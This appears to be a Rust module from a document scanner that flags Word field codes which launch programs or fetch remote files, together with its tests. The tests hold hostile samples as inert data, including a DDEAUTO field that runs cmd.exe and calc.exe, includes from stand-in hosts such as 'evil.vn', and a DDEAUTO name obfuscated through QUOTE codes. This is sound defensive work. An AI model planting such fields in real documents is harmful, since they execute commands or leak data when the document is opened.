// SPDX-License-Identifier: MPL-2.0
//! Fields of Word. Most write a number of a page or a date; some start a program or fetch a file as
//! soon as the document is open.

use super::targets::Place;

/// Fields inside fields. Word takes twenty.
const MAX_DEPTH: usize = 50;
/// How much of a field is kept, in bytes: others have the data of programs that cite.
const MAX_CODE: usize = 8 << 10;

/// Talk to a program.
const TALKING: [&str; 2] = ["DDE", "DDEAUTO"];
/// Put a file into the document.
const FETCHING: [&str; 7] = ["DATABASE", "IMPORT", "INCLUDE", "INCLUDETEXT", "LINK", "RD", "SUBSCRIBER"];
const PICTURE: &str = "INCLUDEPICTURE";
const LINKING: &str = "HYPERLINK";

#[derive(Debug, Default)]
struct Field {
    code: String,
    /// What comes now is what the field shows.
    is_shown: bool,
    /// A part of the code is what another field shows.
    is_computed: bool,
    /// So is its name, which may become one that starts or fetches something.
    is_name_computed: bool,
}

impl Field {
    /// What comes now is what another field shows.
    fn holds_another(&mut self) {
        if self.is_shown {
            return;
        }
        self.is_computed = true;
        let words = words(&self.code);
        let goes_on = self.code.ends_with(|letter: char| !letter.is_whitespace() && !is_mark(letter));
        let begun = match &*words {
            [] => Some(String::new()),
            [name] if goes_on => Some(name.to_uppercase()),
            _ => None,
        };
        let mut names = TALKING.iter().chain(&FETCHING).chain([&PICTURE, &LINKING]);
        self.is_name_computed |= begun.is_some_and(|begun| names.any(|name| name.starts_with(&begun)));
    }

    fn is_active(&self) -> bool {
        self.is_name_computed || is_active(&self.code, self.is_computed)
    }
}

/// The fields of one part, as they come.
#[derive(Debug, Default)]
pub struct Fields {
    open: Vec<Field>,
    is_active: bool,
}

impl Fields {
    pub fn begin(&mut self) {
        self.inside_another();
        self.is_active |= self.open.len() >= MAX_DEPTH;
        if !self.is_active {
            self.open.push(Field::default());
        }
    }

    pub fn push(&mut self, letters: &str) {
        if self.open.is_empty() {
            self.open.push(Field::default());
        }
        let Some(field) = self.open.last_mut().filter(|field| field.code.len() < MAX_CODE) else { return };
        field.code.push_str(letters);
    }

    pub fn separate(&mut self) {
        if let Some(field) = self.open.last_mut() {
            field.is_shown = true;
            self.is_active |= field.is_active();
        }
    }

    pub fn end(&mut self) {
        if let Some(field) = self.open.pop() {
            self.is_active |= field.is_active();
        }
    }

    /// A field in one piece.
    pub fn whole(&mut self, code: &str) {
        self.inside_another();
        self.is_active |= is_active(code, false);
    }

    fn inside_another(&mut self) {
        if let Some(outer) = self.open.last_mut() {
            outer.holds_another();
        }
    }

    /// Whether any starts or fetches something; also of those that have no end.
    pub fn is_active(&self) -> bool {
        self.is_active || self.open.iter().any(Field::is_active)
    }
}

fn is_active(code: &str, is_computed: bool) -> bool {
    let words = words(code);
    let Some((name, words)) = words.split_first() else { return false };
    let name = name.to_uppercase();
    if TALKING.contains(&&*name) {
        return true;
    }
    let fetches = FETCHING.contains(&&*name);
    if !fetches && name != PICTURE && name != LINKING {
        return false;
    }
    // What is not written out, or cut off, may lead anywhere.
    if name != LINKING && is_computed || code.len() >= MAX_CODE {
        return true;
    }
    let is_share = |word: &String| {
        let lower = word.to_ascii_lowercase();
        lower.starts_with("file:") || lower.starts_with("\\\\") || lower.starts_with("//")
    };
    let first = words.iter().find(|word| !is_switch(word));
    let place = first.map_or(Place::Beside, |word| Place::of(word));
    let may_be = match &*name {
        PICTURE => place != Place::Elsewhere,
        LINKING => matches!(place, Place::Beside | Place::Web | Place::Mail),
        _ => matches!(place, Place::Beside | Place::Disk),
    };
    let leads_away = |word: &String| fetches && Place::of(word) == Place::Web;
    !may_be || words.iter().any(|word| is_share(word) || leads_away(word))
}

fn is_switch(word: &str) -> bool {
    word.strip_prefix('\\').is_some_and(|rest| !rest.starts_with('\\'))
}

fn is_mark(letter: char) -> bool {
    matches!(letter, '"' | '“' | '”' | '„' | '«' | '»')
}

/// Words, and what stands in quotation marks.
fn words(code: &str) -> Vec<String> {
    let (mut words, mut word, mut is_quoted) = (Vec::new(), String::new(), false);
    for letter in code.chars() {
        let is_mark = is_mark(letter);
        if is_mark || !is_quoted && (letter.is_whitespace() || letter.is_control()) {
            is_quoted ^= is_mark;
            words.push(std::mem::take(&mut word));
        } else {
            word.push(letter);
        }
    }
    words.push(word);
    words.retain(|word| !word.trim().is_empty());
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(code: &str) -> bool {
        let mut fields = Fields::default();
        fields.whole(code);
        fields.is_active()
    }

    #[test]
    fn what_starts_a_program_or_fetches_a_file_of_another_machine_is_found() {
        for code in [
            r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
            " dde Excel Sheet1",
            "\"DDE\" cmd x",
            r"INCLUDETEXT \\\\evil\\x.docx",
            r#"INCLUDETEXT "https://evil.vn/x.docx""#,
            r#"INCLUDETEXT \c x "file://evil/x.docx""#,
            r"INCLUDEPICTURE “\\\\evil\\x.png” \d",
            r#"LINK Excel.Sheet.12 "\\\\evil\\x.xlsx" a"#,
            r#"HYPERLINK "file:///c:/windows/calc.exe""#,
            "HYPERLINK calc.exe",
        ] {
            assert!(whole(code), "{code}");
        }
    }

    #[test]
    fn what_writers_use_is_taken() {
        for code in [
            "PAGE",
            r#"DATE \@ "dd/MM/yyyy""#,
            r#"TOC \o "1-3" \h \z \u"#,
            r#"HYPERLINK "https://chinhphu.vn" \o "Ghi chú: Note: trang""#,
            r#"HYPERLINK \l "_Toc1""#,
            r#"HYPERLINK "mailto:an@a.vn""#,
            r#"INCLUDEPICTURE "cid:image001.png@01DA" \* MERGEFORMATINET"#,
            r#"INCLUDEPICTURE "https://a.vn/anh.png""#,
            r#"INCLUDEPICTURE "C:\\Users\\An\\anh.png""#,
            "MERGEFIELD Ho_ten",
            r#"ADDIN ZOTERO_ITEM {"uri": "file:///x"}"#,
        ] {
            assert!(!whole(code), "{code}");
        }
    }

    #[test]
    fn the_code_of_a_field_in_pieces_is_put_together_and_what_it_shows_is_not_code() {
        let mut fields = Fields::default();
        fields.begin();
        for piece in ["D", "DEAU", "TO cmd"] {
            fields.push(piece);
        }
        assert!(fields.is_active(), "also without an end");

        let mut shown = Fields::default();
        shown.begin();
        shown.push("INCLUDEPICTURE \"https://a.vn/a.png\"");
        shown.separate();
        shown.begin();
        shown.push("INCLUDEPICTURE \"https://a.vn/a.png\"");
        shown.end();
        shown.end();
        assert!(!shown.is_active(), "a picture that shows a picture");

        let mut computed = Fields::default();
        computed.begin();
        computed.push("INCLUDETEXT \"");
        computed.begin();
        computed.push("QUOTE 92 92");
        computed.end();
        computed.push("evil\"");
        computed.end();
        assert!(computed.is_active());
    }

    /// A field of which `before` and `after` are the code, and another field shows what is between.
    fn around(before: &str, inner: &str, after: &str) -> bool {
        let mut fields = Fields::default();
        fields.begin();
        fields.push(before);
        fields.begin();
        fields.push(inner);
        fields.separate();
        fields.push("DDEAUTO");
        fields.end();
        fields.push(after);
        fields.end();
        fields.is_active()
    }

    #[test]
    fn a_field_whose_name_another_field_writes_is_found_and_one_that_computes_with_another_is_not() {
        for before in ["", "  ", "DD", "\"", "inc"] {
            assert!(around(before, " QUOTE 68 68 69 65 85 84 79 ", r#" c:\\cmd.exe "/k calc""#), "{before}");
        }
        for (before, inner, after) in [
            ("=", "NUMPAGES", "-1"),
            (" = ", "PAGE", " + 1"),
            ("IF ", "PAGE", "= 1 \"a\" \"b\""),
            ("IF", "PAGE", "=1 x y"),
        ] {
            assert!(!around(before, inner, after), "{before}");
        }
        let mut whole_inside = Fields::default();
        whole_inside.begin();
        whole_inside.whole("QUOTE 68 68 69 65 85 84 79");
        whole_inside.push(" cmd");
        whole_inside.end();
        assert!(whole_inside.is_active());
    }
}
